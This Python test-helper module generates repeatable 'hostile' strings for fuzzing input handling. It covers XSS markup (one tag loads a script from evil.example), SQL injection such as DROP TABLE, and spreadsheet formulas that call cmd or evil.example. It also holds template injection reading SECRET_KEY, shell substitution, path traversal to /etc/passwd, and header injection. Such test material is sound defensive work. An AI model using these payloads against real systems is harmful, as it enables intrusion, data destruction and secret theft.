"""Strings that break careless programs, drawn from a seeded source so that a run can be repeated.

Every string says what the attacker would gain from it: markup, a query, a formula, a template, a
path, a header, a name that looks like another one.
"""

import random
from collections.abc import Callable, Sequence

# A page or file in which this stands as markup rather than as text has been broken into.
MARK = "xq7mark"

MARKUP: Sequence[str] = (
    f"<script>window.{MARK}=1</script>",
    f'"><img src=x onerror=alert("{MARK}")>',
    f"' onmouseover='alert(`{MARK}`)",
    f"</textarea><svg onload={MARK}()>",
    f"</title></script><script src=//evil.example/{MARK}.js></script>",
    f"javascript:alert('{MARK}')",
    f'<a href="data:text/html,<script>{MARK}</script>">x</a>',
    f"<!--{MARK}--><math><mtext></p><style>*{{display:none}}</style>",
    f"&lt;b&gt;{MARK}&#x3C;/b&#x3E; &amp;amp;",
    f"<{MARK}>",
)
QUERIES: Sequence[str] = (
    "'; DROP TABLE supplier; --",
    '" OR "1"="1',
    "%' UNION SELECT password_hash FROM user_account --",
    "100%_[a-z]\\",
    "1); DELETE FROM tenant WHERE (1=1",
    ":name ? %s %(name)s $1",
)
FORMULAS: Sequence[str] = (
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "|calc",
    "=1+1;=2",
    ";=1+1",
    "'=1+1",
    "\uff1d1\uff0b1",
    "_xlfn.WEBSERVICE(1)",
    "_x0041_ _x000D_",
)
TEMPLATES: Sequence[str] = (
    "{{ 7*7 }}{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(value)s %s %n %d %%",
    "{0.__class__} {value!r:>9999}",
    "__proto__ constructor.prototype",
    "$(id) `id` ; id | id && id",
)
PATHS: Sequence[str] = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://evil.example/x",
    "a\r\nSet-Cookie: crest=planted",
    "CON",
    "x" * 300 + ".pdf",
)
KHMER: Sequence[str] = (
    "ក្រុមហ៊ុន កាត់ដេរ",
    "រោង\u200bចក្រ\u200cភ្នំ\u200dពេញ",
    "ស្ត្រី ស្រ្តី",
    "១២៣៤៥",
    "មនុស្ស" * 20,
)
LOOKALIKES: Sequence[str] = (
    "\u202egnp.exe",
    "\u2066abc\u2069\u200e\u200f",
    "pay\u0440al",
    "e\u0301\u0323 \u1e69 \u0073\u0323\u0307",
    "Z\u0351\u0346\u0321\u033a" * 20,
    "\ufeffname",
    "a\u00adb\u2060c",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f0\U0001f1ed",
    "\ufb01 \u017f \u0130 \xdf \u01f0",
    "\u2028line\u2029paragraph\u0085next",
    "\ufdfa\U000f0000\ufffe\uffff",
    "\ue000private",
    "\U00010fff\U000e0041",
)
# Refused with a message wherever text is kept.
CONTROLS: Sequence[str] = (
    "a\x00b",
    "\x00",
    "bell\x07 \x1b[31mred\x1b[0m",
    "back\x08space",
    "vertical\x0btab\x0cfeed",
    "delete\x7f",
    "c1\x9b31m",
)
HALVES: Sequence[str] = ("half\ud800", "\udfffhalf", "\ud83d")
NUMBERS: Sequence[str] = (
    "1e999999",
    "1E-99999999",
    "-1E30",
    "NaN",
    "sNaN",
    "-Infinity",
    "0x10",
    "1_000",
    "9" * 400,
    "-0",
    "0.1e-7",
    "²",
    "௧௨",
    "10000000000000000000000000000000",
    "1,2,3",
)
DAYS: Sequence[str] = ("0000-00-00", "9999-12-31", "0001-01-01", "2026-02-30", "+2026-01-01", "now")
FAMILIES: Sequence[Sequence[str]] = (
    MARKUP, QUERIES, FORMULAS, TEMPLATES, PATHS, KHMER, LOOKALIKES, CONTROLS, HALVES, NUMBERS, DAYS
)  # fmt: skip


def hostile_text(source: random.Random) -> str:
    """Return one string: of a family, two glued together, made of odd signs, or very long."""
    return source.choice(_MAKERS)(source)


def hostile_texts(seed: int, count: int) -> list[str]:
    """Return the whole collection first, then as many others as are wanted, all different."""
    source = random.Random(seed)  # noqa: S311 - repeatable
    found = dict.fromkeys(text for family in FAMILIES for text in family)
    while len(found) < count:
        found.setdefault(hostile_text(source))
    return list(found)[:count]


def utf8(text: str) -> bytes:
    """Return the bytes that an attacker sends for it, halves of pairs and all."""
    return text.encode("utf-8", "surrogatepass")


def _of_family(source: random.Random) -> str:
    return source.choice(source.choice(FAMILIES))


def _glued(source: random.Random) -> str:
    return _of_family(source) + source.choice(("", " ", "\n", "\t", "|", ",")) + _of_family(source)


def _odd_signs(source: random.Random) -> str:
    planes = ((0x20, 0x7F), (0xA0, 0x24F), (0x1780, 0x17FF), (0x2000, 0x206F), (0xE000, 0xF8FF))
    ranges = (*planes, (0x1F300, 0x1F9FF), (0x0, 0x1F), (0x600, 0x6FF), (0x10000, 0x10FFFF))
    return "".join(
        chr(source.randint(*source.choice(ranges))) for _ in range(source.randint(1, 40))
    )


def _long(source: random.Random) -> str:
    return (_of_family(source) or "x") * source.choice((20, 200, 3_000))


def _cut(source: random.Random) -> str:
    text = _glued(source)
    place = source.randrange(len(text)) if text else 0
    return text[place:] + text[:place]


_MAKERS: Sequence[Callable[[random.Random], str]] = (
    _of_family,
    _of_family,
    _glued,
    _glued,
    _odd_signs,
    _odd_signs,
    _cut,
    _long,
)
